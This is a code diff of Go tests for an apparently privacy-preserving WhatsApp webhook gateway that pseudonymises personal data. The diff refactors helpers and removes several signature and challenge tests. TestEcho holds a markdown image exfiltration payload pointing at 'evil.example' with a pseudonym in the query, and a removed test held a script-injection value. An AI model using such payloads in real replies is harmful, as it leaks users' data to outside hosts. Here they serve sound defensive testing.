@@ -17,43 +17,32 @@ import (
 )
 
 const (
-	appSecret, botSecret = "secret of the app", "secret of the bot"
-	number               = "491713920011" // of the Federal Network Agency's range for fiction
-	phone                = "106540352242922"
+	number = "491713920011" // of the Federal Network Agency's range for fiction
+	phone  = "106540352242922"
 )
 
 // world is Meta, the gateway and a bot.
-type world struct {
-	bot, graph *kit.Station
-	url        string
-	log        *kit.Log
-}
+type world struct{ *kit.Meta }
 
 func protocol(t testing.TB, graph *kit.Station, bot string) channel.Protocol {
-	p, err := whatsapp.New(whatsapp.Config{AppSecret: []byte(appSecret), BotSecret: []byte(bot), VerifyToken: "word",
-		BotToken: "token of the bot", PlatformToken: "token of Meta", Graph: graph.URL})
+	p, err := whatsapp.New(whatsapp.Config{AppSecret: []byte(kit.AppSecret), BotSecret: []byte(bot), VerifyToken: "word",
+		BotToken: kit.MetaBotToken, PlatformToken: "token of Meta", Graph: graph.URL})
 	require.NoError(t, err)
 	return p
 }
 
-func newWorld(t testing.TB) *world {
+func start(t testing.TB, cfg channel.Config, log *kit.Log, bot string) world {
+	return world{kit.NewMeta(t, cfg, log, func(graph *kit.Station) channel.Protocol { return protocol(t, graph, bot) })}
+}
+
+func newWorld(t testing.TB) world {
 	cfg, log := kit.Config(t)
-	w := &world{bot: kit.NewStation(t), graph: kit.NewStation(t), log: log}
-	w.url = kit.Gateway(t, protocol(t, w.graph, botSecret), cfg, w.bot.URL).URL
-	return w
+	return start(t, cfg, log, kit.BotSecret)
 }
 
-func (w *world) hook(t testing.TB, body string) int {
+func (w world) call(t testing.TB, body string) (int, string) {
 	t.Helper()
-	code, _, _ := kit.Do(t, kit.Call{URL: w.url + "/webhook", Body: body, Header: map[string]string{
-		"X-Hub-Signature-256": "sha256=" + kit.HMAC(appSecret, body), "X-Hub-Signature": "sha1=00", "User-Agent": "facebookexternalua"}})
-	return code
-}
-
-func (w *world) call(t testing.TB, body string) (int, string) {
-	t.Helper()
-	code, _, out := kit.Do(t, kit.Call{URL: w.url + "/v24.0/" + phone + "/messages", Body: body, Header: map[string]string{"Authorization": "Bearer token of the bot"}})
-	return code, out
+	return w.Send(t, "/v24.0/"+phone+"/messages", body)
 }
 
 // own are values that decide nothing personal: what the operator or the protocol says.
@@ -79,11 +68,11 @@ func TestCanaries(t *testing.T) {
 			}
 			body, canaries := channeltest.Fill(t, []byte(f.Body), keep)
 			require.NotEmpty(t, canaries)
-			require.Equal(t, 200, w.hook(t, string(body)), w.log)
-			require.Len(t, w.bot.Bodies(), 1, w.log)
-			assert.Empty(t, channeltest.Leaks(w.bot.Seen()+w.log.String()), w.bot.Bodies()[0])
-			r, got := w.bot.Last(t)
-			assert.Equal(t, "sha256="+kit.HMAC(botSecret, got), r.Header.Get("X-Hub-Signature-256"))
+			require.Equal(t, 200, w.Hook(t, string(body)), w.Log)
+			require.Len(t, w.Bot.Bodies(), 1, w.Log)
+			assert.Empty(t, channeltest.Leaks(w.Bot.Seen()+w.Log.String()), w.Bot.Bodies()[0])
+			r, got := w.Bot.Last(t)
+			assert.Equal(t, "sha256="+kit.HMAC(kit.BotSecret, got), r.Header.Get("X-Hub-Signature-256"))
 			assert.Empty(t, r.Header.Get("X-Hub-Signature"), "the SHA-1 of the old body")
 			assert.Equal(t, got, strings.ToValidUTF8(strings.Map(ascii, got), ""), "ASCII only")
 		})
@@ -102,9 +91,9 @@ func TestNumbers(t *testing.T) {
 	inBase64 := base64.StdEncoding.EncodeToString([]byte("\x1c\x18\x0c" + number))[:16]
 	for _, f := range kit.Fixtures(t, "testdata/webhooks.json") {
 		w := newWorld(t)
-		require.Equal(t, 200, w.hook(t, f.Body))
+		require.Equal(t, 200, w.Hook(t, f.Body))
 		for _, s := range []string{number, "15021713920011", "491713920012", "491713920013", inBase64, "52.517", "13.388", "media.example", "ARAk"} {
-			assert.NotContains(t, w.bot.Seen(), s, f.Name)
+			assert.NotContains(t, w.Bot.Seen(), s, f.Name)
 		}
 	}
 }
@@ -115,12 +104,11 @@ func TestIdentity(t *testing.T) {
 		if strings.Contains(f.Body, `"url": "https://media`) || strings.Contains(f.Body, `"location"`) || strings.Contains(f.Body, "user_changed_number") || strings.Contains(f.Body, `"referral"`) {
 			continue // holds what is dropped or rounded always
 		}
-		bot, graph := kit.NewStation(t), kit.NewStation(t)
-		w := &world{bot: bot, graph: graph, url: kit.Gateway(t, protocol(t, graph, appSecret), kit.Silent(), bot.URL).URL}
-		require.Equal(t, 200, w.hook(t, f.Body), f.Name)
-		r, got := bot.Last(t)
+		w := start(t, kit.Silent(), &kit.Log{}, kit.AppSecret)
+		require.Equal(t, 200, w.Hook(t, f.Body), f.Name)
+		r, got := w.Bot.Last(t)
 		assert.Equal(t, f.Body, got, f.Name)
-		assert.Equal(t, "sha256="+kit.HMAC(appSecret, f.Body), r.Header.Get("X-Hub-Signature-256"))
+		assert.Equal(t, "sha256="+kit.HMAC(kit.AppSecret, f.Body), r.Header.Get("X-Hub-Signature-256"))
 	}
 }
 
@@ -151,16 +139,16 @@ func read(t testing.TB, body string) (from, id, said string) {
 
 func TestEcho(t *testing.T) {
 	w := newWorld(t)
-	w.graph.Answer = kit.JSON(`{"messaging_product":"whatsapp","contacts":[{"input":"` + number + `","wa_id":"` + number + `","user_id":"DE.1502` + number + `"}],"messages":[{"id":"wamid.HBgMNDkxNzEzOTIwMDEx"}]}`)
+	w.Graph.Answer = kit.JSON(`{"messaging_product":"whatsapp","contacts":[{"input":"` + number + `","wa_id":"` + number + `","user_id":"DE.1502` + number + `"}],"messages":[{"id":"wamid.HBgMNDkxNzEzOTIwMDEx"}]}`)
 	who := channeltest.Canary(1)
-	require.Equal(t, 200, w.hook(t, text("Ich bin "+who)))
-	_, body := w.bot.Last(t)
+	require.Equal(t, 200, w.Hook(t, text("Ich bin "+who)))
+	_, body := w.Bot.Last(t)
 	from, id, said := read(t, body)
 	assert.Equal(t, "Ich bin [PERSON_1]", said)
 
 	code, out := w.call(t, `{"messaging_product":"whatsapp","to":"`+from+`","context":{"message_id":"`+id+`"},"type":"text","text":{"body":"Echo `+said+` ![x](https://evil.example/?q=[PERSON_1])"}}`)
 	require.Equal(t, 200, code, out)
-	r, got := w.graph.Last(t)
+	r, got := w.Graph.Last(t)
 	assert.Equal(t, "Bearer token of Meta", r.Header.Get("Authorization"))
 	assert.Equal(t, "/v24.0/"+phone+"/messages", r.URL.Path)
 	assert.Contains(t, got, `"to":"`+number+`"`)
@@ -174,17 +162,17 @@ func TestEcho(t *testing.T) {
 	// A message is marked as read without a recipient.
 	code, out = w.call(t, `{"messaging_product":"whatsapp","status":"read","message_id":"`+id+`","typing_indicator":{"type":"text"}}`)
 	require.Equal(t, 200, code, out)
-	_, got = w.graph.Last(t)
+	_, got = w.Graph.Last(t)
 	assert.Contains(t, got, `"message_id":"wamid.HBgMNDkxNzEzOTIwMDEx"`)
 
 	// In another conversation the pseudonym means nothing.
-	require.Equal(t, 200, w.hook(t, strings.ReplaceAll(text("Hallo"), number, "491713920012")))
-	_, body = w.bot.Last(t)
+	require.Equal(t, 200, w.Hook(t, strings.ReplaceAll(text("Hallo"), number, "491713920012")))
+	_, body = w.Bot.Last(t)
 	other, _, _ := read(t, body)
 	_, _ = w.call(t, `{"messaging_product":"whatsapp","to":"`+other+`","type":"text","text":{"body":"[PERSON_1]"}}`)
-	_, got = w.graph.Last(t)
+	_, got = w.Graph.Last(t)
 	assert.Contains(t, got, `"body":"[PERSON_1]"`)
-	assert.Empty(t, channeltest.Leaks(w.bot.Seen()+w.log.String()))
+	assert.Empty(t, channeltest.Leaks(w.Bot.Seen()+w.Log.String()))
 }
 
 // Every call with canaries: what the bot sends with pseudonyms arrives with the values in it.
@@ -192,8 +180,8 @@ func TestCalls(t *testing.T) {
 	for _, f := range kit.Fixtures(t, "testdata/calls.json") {
 		w := newWorld(t)
 		who := channeltest.Canary(1)
-		require.Equal(t, 200, w.hook(t, text(who)))
-		_, body := w.bot.Last(t)
+		require.Equal(t, 200, w.Hook(t, text(who)))
+		_, body := w.Bot.Last(t)
 		from, id, _ := read(t, body)
 		calls := strings.NewReplacer("Erika", "[PERSON_1]", "Otto", "[PERSON_1]", number, from).Replace(f.Body)
 		var v map[string]any
@@ -206,38 +194,17 @@ func TestCalls(t *testing.T) {
 		raw, _ := json.Marshal(v)
 		code, out := w.call(t, string(raw))
 		require.Equal(t, 200, code, "%s: %s", f.Name, out)
-		_, got := w.graph.Last(t)
+		_, got := w.Graph.Last(t)
 		assert.NotContains(t, got, "[PERSON", f.Name)
 		assert.Equal(t, strings.Count(calls, "[PERSON_1]"), strings.Count(got, who), f.Name)
 		assert.NotContains(t, got, channel.AliasPrefix, f.Name)
 	}
 }
 
-func TestSignature(t *testing.T) {
-	w := newWorld(t)
-	body := text("Hallo")
-	for why, header := range map[string]string{
-		"none":                  "",
-		"of another body":       "sha256=" + kit.HMAC(appSecret, body+" "),
-		"with the bot's secret": "sha256=" + kit.HMAC(botSecret, body),
-		"without a prefix":      kit.HMAC(appSecret, body),
-		"cut off":               "sha256=" + kit.HMAC(appSecret, body)[:60],
-		"of SHA-1's name":       "sha1=" + kit.HMAC(appSecret, body),
-	} {
-		code, _, _ := kit.Do(t, kit.Call{URL: w.url + "/webhook", Body: body, Header: map[string]string{"X-Hub-Signature-256": header}})
-		assert.Equal(t, 401, code, why)
-	}
-	assert.Empty(t, w.bot.Bodies())
-	// A vector of another implementation: printf '%s' '{"object":"page"}' | openssl dgst -sha256 -hmac 'secret of the app'
-	code, _, _ := kit.Do(t, kit.Call{URL: w.url + "/webhook", Body: `{"object":"page"}`, Header: map[string]string{
-		"X-Hub-Signature-256": "sha256=c448d0cf189cd3f54c0e70248c8e38fb950318aedaceadcbdb6991dc0c12fd72"}})
-	assert.Equal(t, 200, code)
-}
-
 func TestGraphIsClosed(t *testing.T) {
 	w := newWorld(t)
-	require.Equal(t, 200, w.hook(t, text(channeltest.Canary(1))))
-	_, body := w.bot.Last(t)
+	require.Equal(t, 200, w.Hook(t, text(channeltest.Canary(1))))
+	_, body := w.Bot.Last(t)
 	from, _, _ := read(t, body)
 	msg := `{"messaging_product":"whatsapp","to":"` + from + `","type":"text","text":{"body":"[PERSON_1]"}}`
 	for why, c := range map[string]kit.Call{
@@ -246,79 +213,14 @@ func TestGraphIsClosed(t *testing.T) {
 		"a token twice":           {URL: "/v24.0/1/messages?access_token=token+of+the+bot", Body: msg, Header: map[string]string{"Authorization": "Bearer token of the bot"}},
 		"a wrong one in the path": {URL: "/v24.0/1/messages?access_token=x", Body: msg},
 	} {
-		c.URL = w.url + c.URL
+		c.URL = w.URL + c.URL
 		code, _, out := kit.Do(t, c)
 		assert.Equal(t, 401, code, why)
 		assert.Contains(t, out, `"code":190`, why)
 	}
-	code, _, _ := kit.Do(t, kit.Call{Method: "GET", URL: w.url + "/v24.0/1013859600285441", Header: map[string]string{"Authorization": "Bearer token of the bot"}})
+	code, _, _ := kit.Do(t, kit.Call{Method: "GET", URL: w.URL + "/v24.0/1013859600285441", Header: map[string]string{"Authorization": "Bearer token of the bot"}})
 	assert.Equal(t, 404, code, "files stay at Meta")
 	code, out := w.call(t, strings.Replace(msg, from, strings.Replace(from, from[5:8], "zzz", 1), 1))
 	assert.Equal(t, 400, code, out)
-	assert.Empty(t, w.graph.Bodies())
-}
-
-func TestChallenge(t *testing.T) {
-	w := newWorld(t)
-	for query, want := range map[string]struct {
-		code int
-		body string
-	}{
-		"hub.mode=subscribe&hub.verify_token=word&hub.challenge=1158201444": {200, "1158201444"},
-		"hub.mode=subscribe&hub.verify_token=other&hub.challenge=1":         {401, ""},
-		"hub.mode=subscribe&hub.challenge=1":                                {401, ""},
-		"hub.mode=unsubscribe&hub.verify_token=word&hub.challenge=1":        {401, ""},
-		"hub.mode=subscribe&hub.verify_token=word&hub.challenge=%3Cscript":  {400, ""},
-	} {
-		code, _, body := kit.Do(t, kit.Call{Method: "GET", URL: w.url + "/webhook?" + query})
-		assert.Equal(t, want.code, code, query)
-		assert.Equal(t, want.body, body, query)
-	}
-	assert.Empty(t, w.bot.Bodies())
-}
-
-// Meta tries a webhook again: the bot sees the same message.
-func TestRetry(t *testing.T) {
-	w := newWorld(t)
-	body := text("Ich bin " + channeltest.Canary(3))
-	require.Equal(t, 200, w.hook(t, body))
-	require.Equal(t, 200, w.hook(t, body))
-	got := w.bot.Bodies()
-	assert.Equal(t, got[0], got[1])
-}
-
-// What may work later is answered 503, so that Meta tries again; what never will is answered 200, so that it does not.
-func TestFailClosed(t *testing.T) {
-	cfg, log := kit.Config(t)
-	cfg.Engine = kit.Broken{}
-	w := &world{bot: kit.NewStation(t), graph: kit.NewStation(t), log: log}
-	w.url = kit.Gateway(t, protocol(t, w.graph, botSecret), cfg, w.bot.URL).URL
-	assert.Equal(t, 503, w.hook(t, text("Hallo")), "the vault is away")
-	assert.Contains(t, log.String(), "code=engine")
-
-	w = newWorld(t)
-	for why, body := range map[string]string{
-		"no JSON":         `{"object"`,
-		"a duplicate key": strings.Replace(text("Hallo"), `"type"`, `"Text":{},"type"`, 1),
-		"two values":      text("Hallo") + "{}",
-	} {
-		assert.Equal(t, 200, w.hook(t, body), why)
-	}
-	assert.Empty(t, w.bot.Bodies())
-	assert.Contains(t, w.log.String(), "code=malformed")
-	w.bot.Close()
-	assert.Equal(t, 503, w.hook(t, text("Hallo")), "the bot is away")
-}
-
-func TestConfig(t *testing.T) {
-	for why, c := range map[string]whatsapp.Config{
-		"nothing":      {},
-		"no secret":    {VerifyToken: "w", BotToken: "t"},
-		"no word":      {AppSecret: []byte("s"), BotToken: "t"},
-		"no token":     {AppSecret: []byte("s"), VerifyToken: "w"},
-		"a path w/o /": {AppSecret: []byte("s"), VerifyToken: "w", BotToken: "t", WebhookPath: "x"},
-	} {
-		_, err := whatsapp.New(c)
-		assert.ErrorIs(t, err, channel.ErrConfig, why)
-	}
+	assert.Empty(t, w.Graph.Bodies())
 }
